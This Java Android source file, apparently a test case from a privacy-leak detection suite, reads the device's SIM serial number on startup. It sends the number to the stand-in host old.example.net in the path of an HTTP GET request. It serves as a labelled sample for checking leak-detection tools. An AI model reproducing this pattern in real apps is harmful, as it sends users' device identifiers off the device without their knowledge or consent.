package cn.privlens.suite.sim_in_http_get_path;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpGet;
import org.apache.http.impl.client.DefaultHttpClient;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String sim = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        new Thread(() -> {
            try {
                StringBuilder path = new StringBuilder("http://old.example.net/i/");
                path.append(sim);
                HttpGet get = new HttpGet(path.toString());
                HttpClient client = new DefaultHttpClient();
                client.execute(get);
                setTitle(path.length() + " signs");
            } catch (IOException e) {
                return;
            }
        }).start();
    }
}
